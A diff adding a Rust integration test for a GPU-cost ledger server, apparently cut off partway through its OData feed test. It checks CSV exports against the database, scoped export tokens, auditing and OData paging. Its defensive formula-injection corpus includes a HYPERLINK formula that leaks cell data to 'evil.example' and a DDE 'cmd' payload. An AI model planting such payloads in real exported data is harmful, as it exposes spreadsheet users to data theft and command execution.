@@ -1,0 +1,943 @@
+//! Exports against real PostgreSQL as the app role, through the router: the four CSV files parsed back and
+//! compared with the database (closed and open months, month splits, department and tenant filters, a
+//! department-scoped token), the formula-injection corpus (tenant, pod and usage names, dispute text) neutralized
+//! while numbers stay numbers; the OData feed (service document, `$metadata`, every entity set, `$filter`,
+//! `$select`, `$orderby`, `$top`, `$skip`, `$count`, keyset and offset paging through `@odata.nextLink`, errors for
+//! what is not supported, Basic / Bearer / API-key credentials and never the session cookie); FOCUS 1.2 and 1.0
+//! columns, charge categories and the correction class. The outside clients (python-odata, focus-validator) run
+//! in `e2e/tests/exports_clients.rs`.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+mod common;
+
+use std::collections::{BTreeMap, BTreeSet};
+
+use axum::{
+    body::{Body, to_bytes},
+    http::{Request, StatusCode},
+};
+use gpuledger_core::{
+    ids::{DepartmentId, OrgId},
+    sharing::SharingMode,
+    wire::{
+        AgentInfo, AllocationEnd, AllocationStart, AttributionLabels, Batch, EndReason, Fact, FactBody, Holder,
+        NamespaceFact, WIRE_VERSION, event_id,
+    },
+};
+use gpuledger_server::{
+    app::{self, AppState, HttpOptions},
+    auth::{self, Role, Scope, oidc, session},
+};
+use serde_json::{Value, json};
+use time::{OffsetDateTime, macros::datetime};
+use tower::ServiceExt;
+use uuid::Uuid;
+
+const H100: &str = "NVIDIA H100 80GB HBM3";
+/// Tenant names a spreadsheet would run as formulas.
+const EVIL_TENANT: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
+const OPS_TENANT: &str = "@ops";
+const EVIL_POD: &str = "=1+2";
+const EVIL_USAGE_TENANT: &str = "-2+3";
+const EVIL_REASON: &str = "=cmd|' /C calc'!A0 and the job was stuck";
+
+struct Env {
+    app: axum::Router,
+    admin: String,
+    export: String,
+    export_platform: String,
+    agent: String,
+    cookie: String,
+    su: sqlx::PgPool,
+    org: Uuid,
+    research: Uuid,
+    platform: Uuid,
+    alpha: Uuid,
+    _db: gpuledger_e2e::TestDatabase,
+}
+
+struct Answer {
+    status: StatusCode,
+    headers: axum::http::HeaderMap,
+    body: Vec<u8>,
+}
+
+impl Answer {
+    fn json(&self) -> Value {
+        serde_json::from_slice(&self.body).unwrap_or_else(|e| panic!("{e}: {}", self.text()))
+    }
+    fn text(&self) -> String {
+        String::from_utf8_lossy(&self.body).into_owned()
+    }
+    fn header(&self, name: &str) -> String {
+        self.headers.get(name).map(|v| v.to_str().unwrap().to_string()).unwrap_or_default()
+    }
+}
+
+async fn send(env: &Env, method: &str, uri: &str, headers: &[(&str, String)], body: Option<Value>) -> Answer {
+    let mut b = Request::builder().method(method).uri(uri).header("content-type", "application/json");
+    for (k, v) in headers {
+        b = b.header(*k, v);
+    }
+    let r = b.body(body.map_or_else(Body::empty, |v| Body::from(serde_json::to_vec(&v).unwrap()))).unwrap();
+    let response = env.app.clone().oneshot(r).await.unwrap();
+    let status = response.status();
+    let headers = response.headers().clone();
+    let body = to_bytes(response.into_body(), 256 << 20).await.unwrap().to_vec();
+    Answer { status, headers, body }
+}
+
+fn bearer(token: &str) -> Vec<(&'static str, String)> {
+    vec![("authorization", format!("Bearer {token}"))]
+}
+
+fn basic(token: &str) -> Vec<(&'static str, String)> {
+    use base64::Engine;
+    vec![(
+        "authorization",
+        format!("Basic {}", base64::engine::general_purpose::STANDARD.encode(format!("powerbi:{token}"))),
+    )]
+}
+
+async fn get(env: &Env, uri: &str, token: &str) -> Answer {
+    send(env, "GET", uri, &bearer(token), None).await
+}
+
+async fn ok_json(env: &Env, method: &str, uri: &str, body: Value) -> Value {
+    let a = send(env, method, uri, &bearer(&env.admin), Some(body)).await;
+    assert!(a.status.is_success(), "{method} {uri}: {} {}", a.status, a.text());
+    a.json()
+}
+
+// ---------------------------------------------------------------- CSV parsing (RFC 4180)
+
+/// Parses RFC 4180 CSV: quoted fields with doubled quotes, CRLF or LF row ends.
+fn parse_csv(text: &str) -> Vec<Vec<String>> {
+    let mut rows = Vec::new();
+    let mut row = Vec::new();
+    let mut field = String::new();
+    let mut quoted = false;
+    let mut chars = text.chars().peekable();
+    let mut at_start = true;
+    while let Some(c) = chars.next() {
+        if quoted {
+            if c == '"' {
+                if chars.peek() == Some(&'"') {
+                    field.push('"');
+                    chars.next();
+                } else {
+                    quoted = false;
+                }
+            } else {
+                field.push(c);
+            }
+            continue;
+        }
+        match c {
+            '"' if at_start => {
+                quoted = true;
+                at_start = false;
+            }
+            ',' => {
+                row.push(std::mem::take(&mut field));
+                at_start = true;
+            }
+            '\r' if chars.peek() == Some(&'\n') => {}
+            '\n' => {
+                row.push(std::mem::take(&mut field));
+                rows.push(std::mem::take(&mut row));
+                at_start = true;
+            }
+            c => {
+                assert!(c != '"', "a quote inside an unquoted field: {text}");
+                field.push(c);
+                at_start = false;
+            }
+        }
+    }
+    assert!(!quoted, "unterminated quoted field");
+    if !field.is_empty() || !row.is_empty() {
+        row.push(field);
+        rows.push(row);
+    }
+    rows
+}
+
+/// Rows as maps from the header.
+fn records(text: &str) -> (Vec<String>, Vec<BTreeMap<String, String>>) {
+    let rows = parse_csv(text);
+    let header = rows[0].clone();
+    let recs = rows[1..]
+        .iter()
+        .map(|r| {
+            assert_eq!(r.len(), header.len(), "row {r:?} has {} cells, the header {}", r.len(), header.len());
+            header.iter().cloned().zip(r.iter().cloned()).collect()
+        })
+        .collect();
+    (header, recs)
+}
+
+fn csv_of(a: &Answer) -> (Vec<String>, Vec<BTreeMap<String, String>>) {
+    assert_eq!(a.status, StatusCode::OK, "{}", a.text());
+    assert!(a.header("content-type").starts_with("text/csv"), "{}", a.header("content-type"));
+    let text = a.text();
+    assert!(text.ends_with("\r\n"), "rows end with CRLF");
+    records(&text)
+}
+
+/// Cents of a decimal string (exact).
+fn cents(s: &str) -> i64 {
+    let (int, frac) = s.split_once('.').unwrap_or((s, "0"));
+    let neg = int.starts_with('-');
+    let int: i64 = int.trim_start_matches('-').parse().unwrap();
+    let frac: i64 = format!("{frac:0<2}")[..2].parse().unwrap();
+    let v = int * 100 + frac;
+    if neg { -v } else { v }
+}
+
+/// Micro-units of a decimal string with at most 6 decimals (exact).
+fn micros(s: &str) -> i64 {
+    let (int, frac) = s.split_once('.').unwrap_or((s, "0"));
+    assert!(frac.len() <= 6, "{s}");
+    let neg = int.starts_with('-');
+    let v =
+        int.trim_start_matches('-').parse::<i64>().unwrap() * 1_000_000 + format!("{frac:0<6}").parse::<i64>().unwrap();
+    if neg { -v } else { v }
+}
+
+const FORMULA_START: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\n'];
+
+// ---------------------------------------------------------------- seeding
+
+fn namespace(uid: Uuid, name: &str, tenant: &str) -> Fact {
+    Fact {
+        event_id: event_id("namespace", &[&uid.to_string(), "1"]),
+        observed_at: datetime!(2026-08-01 00:00 UTC),
+        body: FactBody::NamespaceObserved(NamespaceFact {
+            namespace_uid: uid,
+            name: name.into(),
+            created_at: datetime!(2026-08-01 00:00 UTC),
+            deleted_at: None,
+            labels: AttributionLabels { tenant: Some(tenant.into()), ..Default::default() },
+            labels_since: datetime!(2026-08-01 00:00 UTC),
+        }),
+    }
+}
+
+fn pod(ns: Uuid, name: &str, units: u32, from: OffsetDateTime, to: OffsetDateTime) -> Vec<Fact> {
+    let pod = Uuid::new_v4();
+    let allocation_id = format!("{pod}/main/nvidia.com/gpu");
+    vec![
+        Fact {
+            event_id: event_id("alloc-start", &[&allocation_id]),
+            observed_at: from,
+            body: FactBody::AllocationStarted(AllocationStart {
+                allocation_id: allocation_id.clone(),
+                holder: Holder::Pod,
+                holder_uid: pod,
+                holder_name: name.into(),
+                namespace: "ns".into(),
+                namespace_uid: Some(ns),
+                container: Some("main".into()),
+                node: Some("node-1".into()),
+                resource: "nvidia.com/gpu".into(),
+                units,
+                mode: SharingMode::Exclusive,
+                gpu_model: Some(H100.into()),
+                device_ids: vec![],
+                started_at: from,
+                labels: AttributionLabels::default(),
+            }),
+        },
+        Fact {
+            event_id: event_id("alloc-end", &[&allocation_id]),
+            observed_at: to,
+            body: FactBody::AllocationEnded(AllocationEnd { allocation_id, ended_at: to, reason: EndReason::Finished }),
+        },
+    ]
+}
+
+async fn ingest(env: &Env, facts: Vec<Fact>) {
+    let b = Batch {
+        wire_version: WIRE_VERSION,
+        agent: AgentInfo { version: "test".into(), mode: "cluster".into(), node: None },
+        cluster: None,
+        facts,
+    };
+    let a =
+        send(env, "POST", "/api/v1/ingest/batches", &bearer(&env.agent), Some(serde_json::to_value(&b).unwrap())).await;
+    assert_eq!(a.status, StatusCode::OK, "{}", a.text());
+}
+
+/// Acme: Research (alpha, the formula-named tenant) and Platform (@ops); September closed; a dispute with a
+/// formula for a reason, accepted with a 5.00 credit finance approved; a late September fact; service usage.
+/// October is open and carries the credit and the late-data adjustment.
+async fn env() -> Env {
+    let (test_db, db) = common::migrated().await;
+    let su = common::admin_pool(&test_db).await;
+    let org = db.cross_org_directory().create_org(OrgId::from_uuid(Uuid::new_v4()), "acme", "Acme").await.unwrap();
+    let o = org.as_uuid();
+    let (research, platform, alpha) = (Uuid::new_v4(), Uuid::new_v4(), Uuid::new_v4());
+    sqlx::query(
+        "INSERT INTO departments (org_id, department_id, name) VALUES ($1, $2, 'Research'), ($1, $3, 'Platform')",
+    )
+    .bind(o)
+    .bind(research)
+    .bind(platform)
+    .execute(&su)
+    .await
+    .unwrap();
+    for (id, dept, name) in
+        [(alpha, research, "alpha"), (Uuid::new_v4(), research, EVIL_TENANT), (Uuid::new_v4(), platform, OPS_TENANT)]
+    {
+        sqlx::query("INSERT INTO tenants (org_id, tenant_id, department_id, name, created_at) VALUES ($1, $2, $3, $4, '2025-01-01')")
+            .bind(o)
+            .bind(id)
+            .bind(dept)
+            .bind(name)
+            .execute(&su)
+            .await
+            .unwrap();
+    }
+    sqlx::query("INSERT INTO gpu_classes (org_id, gpu_class) VALUES ($1, 'H100-80GB')")
+        .bind(o)
+        .execute(&su)
+        .await
+        .unwrap();
+    sqlx::query(
+        "INSERT INTO gpu_models (org_id, model, valid_from, gpu_class) VALUES ($1, $2, '2025-01-01', 'H100-80GB')",
+    )
+    .bind(o)
+    .bind(H100)
+    .execute(&su)
+    .await
+    .unwrap();
+    let mut tx = db.begin_org(org).await.unwrap();
+    let (cluster, _) = auth::ensure_cluster(&mut tx, "c1").await.unwrap();
+    let (_, agent) = auth::create_token(&mut tx, &Scope::Agent { cluster }, "agent", "test", None).await.unwrap();
+    let (_, admin) = auth::create_token(&mut tx, &Scope::Admin, "admin", "test", None).await.unwrap();
+    let (_, export) = auth::create_token(&mut tx, &Scope::export(), "bi", "test", None).await.unwrap();
+    let (_, export_platform) = auth::create_token(
+        &mut tx,
+        &Scope::Export { departments: vec![DepartmentId::from_uuid(platform)] },
+        "bi-platform",
+        "test",
+        None,
+    )
+    .await
+    .unwrap();
+    let user = oidc::upsert_user(&mut tx, "fin-subject", Some("fin@acme.invalid"), "Fin").await.unwrap();
+    let new = session::NewSession {
+        user_id: user,
+        roles: vec![Role::Finance],
+        departments: Vec::new(),
+        id_token_hint: None,
+        source: "test".into(),
+    };
+    let cookie = session::create(&mut tx, &session::SessionSettings::default(), &new).await.unwrap();
+    tx.commit().await.unwrap();
+    let app = app::router(AppState::new(db.clone(), None), &HttpOptions::default());
+    let env =
+        Env { app, admin, export, export_platform, agent, cookie, su, org: o, research, platform, alpha, _db: test_db };
+
+    ok_json(
+        &env,
+        "POST",
+        "/api/v1/policies",
+        json!({"effective_from": "2026-09", "note": "rates", "policy": {
+            "currency": "USD",
+            "classes": [{"gpu_class": "H100-80GB", "guaranteed": "2.00", "borrowed": "3.00"}],
+            "overhead": {"fixed": [{"name": "platform team", "amount": "100.00"}], "key": {"kind": "equal"}}
+        }}),
+    )
+    .await;
+    ok_json(&env, "POST", "/api/v1/policies/1/approve", json!({"reason": "approved"})).await;
+
+    let (ns_alpha, ns_evil, ns_ops) = (Uuid::new_v4(), Uuid::new_v4(), Uuid::new_v4());
+    let mut facts = vec![
+        namespace(ns_alpha, "alpha-ns", "alpha"),
+        namespace(ns_evil, "evil-ns", EVIL_TENANT),
+        namespace(ns_ops, "ops-ns", OPS_TENANT),
+    ];
+    // alpha 2 GPUs × 10 h; the formula-named pod 1 GPU across the month's end (4 h in each month); @ops 1 GPU × 24 h
+    facts.extend(pod(ns_alpha, "trainer", 2, datetime!(2026-09-10 00:00 UTC), datetime!(2026-09-10 10:00 UTC)));
+    facts.extend(pod(ns_evil, EVIL_POD, 1, datetime!(2026-09-30 20:00 UTC), datetime!(2026-10-01 04:00 UTC)));
+    facts.extend(pod(ns_ops, "ops-job", 1, datetime!(2026-09-20 00:00 UTC), datetime!(2026-09-21 00:00 UTC)));
+    ingest(&env, facts).await;
+    ok_json(&env, "POST", "/api/v1/periods/2026-09/close", json!({})).await;
+
+    let d = ok_json(
+        &env,
+        "POST",
+        "/api/v1/disputes",
+        json!({"period": "2026-09",
+        "line_ids": ["2026-09/borrowed/alpha/H100-80GB"], "reason": EVIL_REASON}),
+    )
+    .await;
+    let id = d["id"].as_str().unwrap().to_string();
+    ok_json(
+        &env,
+        "POST",
+        &format!("/api/v1/disputes/{id}/accept"),
+        json!({"reason": "+5 goodwill", "credit_amount": "5.00"}),
+    )
+    .await;
+    ok_json(&env, "POST", &format!("/api/v1/disputes/{id}/credit/approve"), json!({})).await;
+    // a late September fact: alpha 1 GPU × 5 h → an adjustment in October
+    ingest(&env, pod(ns_alpha, "late", 1, datetime!(2026-09-15 00:00 UTC), datetime!(2026-09-15 05:00 UTC))).await;
+
+    let cluster_id: Uuid = sqlx::query_scalar("SELECT cluster_id FROM clusters WHERE org_id = $1")
+        .bind(o)
+        .fetch_one(&env.su)
+        .await
+        .unwrap();
+    for (tenant, tenant_id, hour, input, output) in
+        [("alpha", Some(alpha), 1, 1000_i64, 250_i64), (EVIL_USAGE_TENANT, None, 2, 7, 9)]
+    {
+        sqlx::query(
+            "INSERT INTO service_usage (org_id, cluster_id, endpoint, model, tenant_name, tenant_id, window_start,
+                                        window_end, requests, input_tokens, output_tokens)
+             VALUES ($1, $2, 'llm-shared', 'llama', $3, $4, $5, $5 + interval '1 hour', 3, $6, $7)",
+        )
+        .bind(o)
+        .bind(cluster_id)
+        .bind(tenant)
+        .bind(tenant_id)
+        .bind(datetime!(2026-09-05 00:00 UTC) + time::Duration::hours(hour))
+        .bind(input)
+        .bind(output)
+        .execute(&env.su)
+        .await
+        .unwrap();
+    }
+    env
+}
+
+// ---------------------------------------------------------------- CSV
+
+#[tokio::test]
+async fn csv_exports_match_the_database_and_neutralize_formulas() {
+    let env = env().await;
+
+    // -- ledger.csv of the closed month: the canonical header, every stored line with its exact amount
+    let (header, rows) = csv_of(&get(&env, "/api/v1/exports/ledger.csv?period=2026-09", &env.export).await);
+    assert_eq!(header.join(","), gpuledger_core::ledger::CSV_HEADER);
+    let db: Vec<(String, String, String)> = sqlx::query_as(
+        "SELECT line_id, amount::text, quantity::text FROM ledger_lines WHERE org_id = $1 AND period = '2026-09-01' ORDER BY line_no",
+    )
+    .bind(env.org)
+    .fetch_all(&env.su)
+    .await
+    .unwrap();
+    assert!(db.len() >= 6, "{db:?}");
+    let csv: Vec<(String, String, String)> =
+        rows.iter().map(|r| (r["line_id"].clone(), r["amount"].clone(), r["quantity"].clone())).collect();
+    assert_eq!(csv, db, "the CSV is the stored lines, in order, with exact decimals");
+    let total: String =
+        sqlx::query_scalar("SELECT total_amount::text FROM periods WHERE org_id = $1 AND period = '2026-09-01'")
+            .bind(env.org)
+            .fetch_one(&env.su)
+            .await
+            .unwrap();
+    assert_eq!(rows.iter().map(|r| cents(&r["amount"])).sum::<i64>(), cents(&total));
+    // the formula-named tenant comes back neutralized; no text cell starts a formula
+    let evil: Vec<_> = rows.iter().filter(|r| r["tenant"] == format!("'{EVIL_TENANT}")).collect();
+    assert!(!evil.is_empty(), "the tenant {EVIL_TENANT} is written as '{EVIL_TENANT}: {rows:?}");
+    assert!(rows.iter().any(|r| r["tenant"] == format!("'{OPS_TENANT}")));
+    for r in &rows {
+        for (k, v) in r {
+            assert!(!v.starts_with(FORMULA_START), "{k} = {v:?} starts a formula");
+        }
+        assert_eq!(r["period"], "2026-09");
+    }
+
+    // -- the open month is computed now: its credit (negative, still a number) and its late-data adjustment
+    let (_, oct) = csv_of(&get(&env, "/api/v1/exports/ledger.csv?period=2026-10", &env.export).await);
+    let preview = get(&env, "/api/v1/ledger?period=2026-10", &env.export).await.json();
+    let want: BTreeSet<(String, String)> = preview["lines"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|l| (l["line_id"].as_str().unwrap().to_string(), l["amount"].as_str().unwrap().to_string()))
+        .collect();
+    let got: BTreeSet<(String, String)> = oct.iter().map(|r| (r["line_id"].clone(), r["amount"].clone())).collect();
+    assert_eq!(got, want);
+    let credit = oct.iter().find(|r| r["term"] == "credit").expect("a credit line");
+    assert_eq!(credit["amount"], "-5.00", "numbers are not neutralized");
+    let adjustment = oct.iter().find(|r| r["term"] == "adjustment").expect("a late-data adjustment");
+    assert_eq!(adjustment["amount"], "15.00", "1 GPU × 5 h × 3.00");
+    assert!(adjustment["corrects"].starts_with("2026-09/"), "{adjustment:?}");
+
+    // -- allocations.csv: one row per allocation and month, GPU-hours exact, the month's end splits
+    let (header, sept) = csv_of(&get(&env, "/api/v1/exports/allocations.csv?period=2026-09", &env.export).await);
+    for c in [
+        "period",
+        "cluster",
+        "allocation_id",
+        "start",
+        "end",
+        "gpu_hours",
+        "tenant",
+        "department",
+        "holder_name",
+        "confidence",
+    ] {
+        assert!(header.contains(&c.to_string()), "{c} in {header:?}");
+    }
+    let hours: BTreeMap<String, String> =
+        sept.iter().map(|r| (r["holder_name"].clone(), r["gpu_hours"].clone())).collect();
+    assert_eq!(hours["trainer"], "20.000000");
+    assert_eq!(hours["ops-job"], "24.000000");
+    assert_eq!(hours["late"], "5.000000");
+    assert_eq!(hours[&format!("'{EVIL_POD}")], "4.000000", "the pod name is neutralized, its hours are not");
+    let evil = sept.iter().find(|r| r["holder_name"] == format!("'{EVIL_POD}")).unwrap();
+    assert_eq!((evil["start"].as_str(), evil["end"].as_str()), ("2026-09-30T20:00:00Z", "2026-10-01T00:00:00Z"));
+    assert_eq!(evil["tenant"], format!("'{EVIL_TENANT}"));
+    assert_eq!(evil["started_at"], "2026-09-30T20:00:00Z");
+    let (_, oct) = csv_of(&get(&env, "/api/v1/exports/allocations.csv?period=2026-10", &env.export).await);
+    assert_eq!(oct.len(), 1, "{oct:?}");
+    assert_eq!((oct[0]["start"].as_str(), oct[0]["gpu_hours"].as_str()), ("2026-10-01T00:00:00Z", "4.000000"));
+    let db_hours: String = sqlx::query_scalar(
+        "SELECT sum(fraction_num::numeric * extract(epoch FROM least(ended_at, '2026-10-01') - greatest(started_at, '2026-09-01'))
+                / (fraction_den * 3600))::numeric(20,6)::text
+           FROM allocation_intervals WHERE org_id = $1 AND started_at < '2026-10-01' AND ended_at > '2026-09-01'",
+    )
+    .bind(env.org)
+    .fetch_one(&env.su)
+    .await
+    .unwrap();
+    assert_eq!(sept.iter().map(|r| micros(&r["gpu_hours"])).sum::<i64>(), micros(&db_hours));
+
+    // -- usage.csv and disputes.csv
+    let (_, usage) = csv_of(&get(&env, "/api/v1/exports/usage.csv?period=2026-09", &env.export).await);
+    assert_eq!(usage.len(), 2);
+    let evil_usage = usage.iter().find(|r| r["tenant_name"] == format!("'{EVIL_USAGE_TENANT}")).expect("neutralized");
+    assert_eq!((evil_usage["input_tokens"].as_str(), evil_usage["tenant_id"].as_str()), ("7", ""));
+    assert_eq!(usage.iter().find(|r| r["tenant_name"] == "alpha").unwrap()["window_start"], "2026-09-05T01:00:00Z");
+    let (_, disputes) = csv_of(&get(&env, "/api/v1/exports/disputes.csv?period=2026-09", &env.export).await);
+    assert_eq!(disputes.len(), 1);
+    assert_eq!(disputes[0]["reason"], format!("'{EVIL_REASON}"));
+    assert_eq!(disputes[0]["resolution"], "'+5 goodwill");
+    assert_eq!((disputes[0]["state"].as_str(), disputes[0]["credit_amount"].as_str()), ("accepted", "5.00"));
+    assert_eq!(disputes[0]["credit_state"], "approved");
+
+    // -- filters: a department, a tenant
+    let platform =
+        get(&env, &format!("/api/v1/exports/ledger.csv?period=2026-09&department={}", env.platform), &env.export).await;
+    let (_, platform) = csv_of(&platform);
+    assert!(!platform.is_empty() && platform.iter().all(|r| r["department"] == "Platform"), "{platform:?}");
+    let (_, alpha) = csv_of(
+        &get(&env, &format!("/api/v1/exports/allocations.csv?period=2026-09&tenant={}", env.alpha), &env.export).await,
+    );
+    assert_eq!(alpha.len(), 2);
+    let (_, alpha_oct) = csv_of(
+        &get(&env, &format!("/api/v1/exports/ledger.csv?period=2026-10&tenant={}", env.alpha), &env.export).await,
+    );
+    assert!(!alpha_oct.is_empty() && alpha_oct.iter().all(|r| r["tenant"] == "alpha"));
+
+    // -- an export token limited to Platform sees Platform only, in every file
+    let t = &env.export_platform;
+    let (_, l) = csv_of(&get(&env, "/api/v1/exports/ledger.csv?period=2026-09", t).await);
+    assert!(!l.is_empty() && l.iter().all(|r| r["department"] == "Platform"), "{l:?}");
+    let (_, l) = csv_of(&get(&env, "/api/v1/exports/ledger.csv?period=2026-10", t).await);
+    assert!(l.iter().all(|r| r["department"] == "Platform"), "{l:?}");
+    let (_, a) = csv_of(&get(&env, "/api/v1/exports/allocations.csv?period=2026-09", t).await);
+    assert_eq!(a.iter().map(|r| r["holder_name"].as_str()).collect::<Vec<_>>(), ["ops-job"]);
+    assert!(csv_of(&get(&env, "/api/v1/exports/usage.csv?period=2026-09", t).await).1.is_empty());
+    assert!(csv_of(&get(&env, "/api/v1/exports/disputes.csv?period=2026-09", t).await).1.is_empty());
+    let (_, l) =
+        csv_of(&get(&env, &format!("/api/v1/exports/ledger.csv?period=2026-09&department={}", env.research), t).await);
+    assert!(l.is_empty(), "a filter never widens the scope");
+
+    // -- refusals
+    for (uri, status) in [
+        ("/api/v1/exports/allocations.csv", 422),
+        ("/api/v1/exports/usage.csv?period=2026-13", 422),
+        ("/api/v1/exports/disputes.csv?period=2026-09&department=nope", 422),
+        ("/api/v1/exports/ledger.csv?period=2026-09&tenant=x", 422),
+    ] {
+        assert_eq!(get(&env, uri, &env.export).await.status.as_u16(), status, "{uri}");
+    }
+    assert_eq!(send(&env, "GET", "/api/v1/exports/allocations.csv?period=2026-09", &[], None).await.status, 401);
+    assert_eq!(get(&env, "/api/v1/exports/allocations.csv?period=2026-09", &env.agent).await.status, 403);
+    // a signed-in person may download CSV in the browser
+    let a = send(
+        &env,
+        "GET",
+        "/api/v1/exports/usage.csv?period=2026-09",
+        &[("cookie", format!("gl_session={}", env.cookie))],
+        None,
+    )
+    .await;
+    assert_eq!(a.status, 200, "{}", a.text());
+
+    // -- every export is audited
+    let actions: Vec<String> =
+        sqlx::query_scalar("SELECT DISTINCT action FROM audit_log WHERE org_id = $1 AND action LIKE 'export.%'")
+            .bind(env.org)
+            .fetch_all(&env.su)
+            .await
+            .unwrap();
+    for a in ["export.ledger_csv", "export.allocations_csv", "export.usage_csv", "export.disputes_csv"] {
+        assert!(actions.contains(&a.to_string()), "{a} in {actions:?}");
+    }
+}
+
+// ---------------------------------------------------------------- OData
+
+/// Follows `@odata.nextLink` from `uri`; returns every entity and the number of pages.
+async fn all_pages(env: &Env, uri: &str, headers: &[(&str, String)]) -> (Vec<Value>, usize) {
+    let mut out = Vec::new();
+    let mut next = Some(uri.to_string());
+    let mut pages = 0;
+    while let Some(u) = next {
+        let a = send(env, "GET", &u, headers, None).await;
+        assert_eq!(a.status, 200, "{u}: {}", a.text());
+        assert_eq!(a.header("odata-version"), "4.0");
+        let v = a.json();
+        out.extend(v["value"].as_array().unwrap().iter().cloned());
+        pages += 1;
+        assert!(pages < 1000, "paging does not end");
+        next = v["@odata.nextLink"].as_str().map(|l| {
+            let path = l.split_once("/odata/").map(|(_, p)| format!("/odata/{p}")).unwrap();
+            path
+        });
+    }
+    (out, pages)
+}
+
+#[tokio::test]
+async fn odata_feed_pages_filters_and_refuses() {
+    let env = env().await;
+    let h = basic(&env.export);
+
+    // -- service document and metadata
+    let a = send(&env, "GET", "/odata/", &h, None).await;
+    assert_eq!((a.status.as_u16(), a.header("odata-version").as_str()), (200, "4.0"), "{}", a.text());
+    let doc = a.json();
+    let names: Vec<&str> = doc["value"].as_array().unwrap().iter().map(|s| s["name"].as_str().unwrap()).collect();
+    assert_eq!(names, ["LedgerLines", "Allocations", "Tenants", "Departments", "Periods", "Usage", "Disputes"]);
+    assert!(doc["@odata.context"].as_str().unwrap().ends_with("/odata/$metadata"), "{doc}");
+    let a = send(&env, "GET", "/odata/$metadata", &h, None).await;
+    assert_eq!(a.status, 200);
+    assert!(a.header("content-type").starts_with("application/xml"));
+    let xml = a.text();
+    for s in names {
+        assert!(xml.contains(&format!(r#"<EntitySet Name="{s}""#)), "{s}");
+    }
+    assert!(xml.contains(
+        r#"<EntityType Name="LedgerLine"><Key><PropertyRef Name="Period"/><PropertyRef Name="LineId"/></Key>"#
+    ));
+    assert!(xml.contains(r#"<Property Name="PeriodStart" Type="Edm.DateTimeOffset" Nullable="false""#));
+
+    // -- LedgerLines: the closed month's lines, filtered by Period, amounts exact
+    let db: Vec<(String, String)> = sqlx::query_as(
+        "SELECT line_id, amount::text FROM ledger_lines WHERE org_id = $1 ORDER BY period, line_id COLLATE \"default\"",
+    )
+    .bind(env.org)
+    .fetch_all(&env.su)
+    .await
+    .unwrap();
+    let a = send(&env, "GET", "/odata/LedgerLines?$filter=Period%20eq%20'2026-09'&$count=true", &h, None).await;
+    let v = a.json();
+    assert_eq!(v["@odata.count"], db.len());
+    assert!(v["@odata.context"].as_str().unwrap().ends_with("/odata/$metadata#LedgerLines"));
+    let got: Vec<(String, i64)> = v["value"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|l| (l["LineId"].as_str().unwrap().to_string(), cents(&l["Amount"].to_string())))
+        .collect();
+    assert_eq!(got, db.iter().map(|(i, a)| (i.clone(), cents(a))).collect::<Vec<_>>(), "in key order");
+    assert!(a.text().contains(&format!("\"Amount\":{},", db[0].1)), "amounts are written exactly: {}", a.text());
+    assert_eq!(v["value"][0]["PeriodStart"], "2026-09-01T00:00:00Z");
+    // IEEE754Compatible=true: decimals as strings
+    let a = send(
+        &env,
+        "GET",
+        "/odata/LedgerLines?$top=1",
+        &[h[0].clone(), ("accept", "application/json;IEEE754Compatible=true".into())],
+        None,
+    )
+    .await;
+    assert!(a.json()["value"][0]["Amount"].is_string(), "{}", a.text());
+    assert!(a.header("content-type").contains("IEEE754Compatible=true"));
+
+    // -- server-driven paging, keyset: two per page, every line once, in order
+    let small = [h[0].clone(), ("prefer", "odata.maxpagesize=2".to_string())];
+    let (lines, pages) = all_pages(&env, "/odata/LedgerLines", &small).await;
+    let ids: Vec<String> = lines.iter().map(|l| l["LineId"].as_str().unwrap().to_string()).collect();
+    assert_eq!(ids, db.iter().map(|(i, _)| i.clone()).collect::<Vec<_>>());
+    assert_eq!(pages, db.len().div_ceil(2));
+    let a = send(&env, "GET", "/odata/LedgerLines", &small, None).await;
+    assert_eq!(a.header("preference-applied"), "odata.maxpagesize=2");
+    // with $orderby (offset paging) and $select
+    let (by_amount, _) =
+        all_pages(&env, "/odata/LedgerLines?$orderby=Amount%20desc,LineId&$select=LineId,Amount", &small).await;
+    assert_eq!(by_amount.len(), db.len());
+    let amounts: Vec<i64> = by_amount.iter().map(|l| cents(&l["Amount"].to_string())).collect();
+    assert!(amounts.windows(2).all(|w| w[0] >= w[1]), "{amounts:?}");
+    assert!(by_amount.iter().all(|l| l.as_object().unwrap().len() == 2), "only the selected properties");
+    // $top / $skip, also across pages
+    let (window, _) = all_pages(&env, "/odata/LedgerLines?$top=3&$skip=1", &h).await;
+    assert_eq!(
+        window.iter().map(|l| l["LineId"].as_str().unwrap()).collect::<Vec<_>>(),
+        ids[1..4].iter().map(String::as_str).collect::<Vec<_>>()
+    );
+    let (five, pages) = all_pages(&env, "/odata/LedgerLines?$top=5", &small).await;
+    assert_eq!((five.len(), pages), (5, 3));
+    let a = send(&env, "GET", "/odata/LedgerLines/$count?$filter=Term%20eq%20'borrowed'", &h, None).await;
+    let borrowed = db.iter().filter(|(i, _)| i.contains("/borrowed/")).count();
+    assert_eq!(a.text(), borrowed.to_string());
+
+    // -- Allocations: the incremental-refresh filter Power BI sends, numbers, strings, nulls, functions
+    let (rows, _) = all_pages(
+        &env,
+        "/odata/Allocations?$filter=PeriodStart%20ge%202026-09-01T00:00:00Z%20and%20PeriodStart%20lt%202026-10-01T00:00:00Z",
+        &small,
+    )
+    .await;
+    assert_eq!(rows.len(), 4);
+    assert_eq!(rows.iter().map(|r| micros(&r["GpuHours"].to_string())).sum::<i64>(), 53_000_000, "20 + 4 + 24 + 5");
+    let count = |f: &'static str| {
+        let env = &env;
+        let h = h.clone();
+        async move {
+            let a = send(
+                env,
+                "GET",
+                &format!("/odata/Allocations?$count=true&$top=0&$filter={}", f.replace(' ', "%20")),
+                &h,
+                None,
+            )
+            .await;
+            assert_eq!(a.status, 200, "{f}: {}", a.text());
+            a.json()["@odata.count"].as_i64().unwrap()
+        }
+    };
+    assert_eq!(count("GpuHours gt 4 and GpuHours le 20").await, 2);
+    assert_eq!(count("Tenant eq '@ops' or HolderName eq 'late'").await, 2);
+    assert_eq!(count("contains(HolderName,'=1') and Period ne '2026-09'").await, 1);
+    assert_eq!(count("EndedAt ne null and not (Units ge 2)").await, 4);
+    assert_eq!(count("Period in ('2026-09', '2026-10') and year(Start) eq 2026").await, 5);
